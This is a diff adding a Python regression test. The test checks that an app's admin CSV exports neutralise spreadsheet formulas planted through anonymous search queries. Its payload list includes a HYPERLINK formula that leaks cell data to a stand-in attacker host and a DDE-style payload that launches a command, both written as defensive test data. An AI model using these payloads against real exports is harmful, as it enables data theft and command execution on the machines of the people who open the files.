@@ -177,3 +177,23 @@ def test_failed_handoffs_are_shown_for_a_person_to_pass_on(app):
     html = client.get("/admin/handoffs").get_data(as_text=True)
     assert reference in html and "HTTP 503" in html and "anna@example.com" in html
     assert re.search(r"<dt>Failed</dt><dd>1</dd>", html)
+
+
+def test_csv_exports_neutralise_formulas(app):
+    """M4: anonymous search text reached the exports as live spreadsheet formulas."""
+    client = app.test_client()
+    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Open report")', "@SUM(1+1)*cmd|'/C calc'!A0",
+               "+1+1", "-2+3", "\tcmd", "\rcmd"]
+    for text in attacks:
+        client.get("/en/search", query_string={"q": text})
+    app.extensions["analytics"].flush()
+    login(client)
+    for name in ("top_searches", "zero_result_searches"):
+        rows = list(csv.reader(io.StringIO(client.get(f"/admin/export/{name}.csv").get_data(as_text=True))))
+        searches = [row[0] for row in rows[1:]]
+        assert searches, name
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)
+        assert all(int(row[1]) >= 1 for row in rows[1:])  # counts stay numbers
+        if name == "top_searches":
+            assert any(cell.lower().startswith("'=hyperlink") for cell in searches)
+            assert "'+1+1" in searches and "'@sum(1+1)*cmd|'/c calc'!a0" in searches
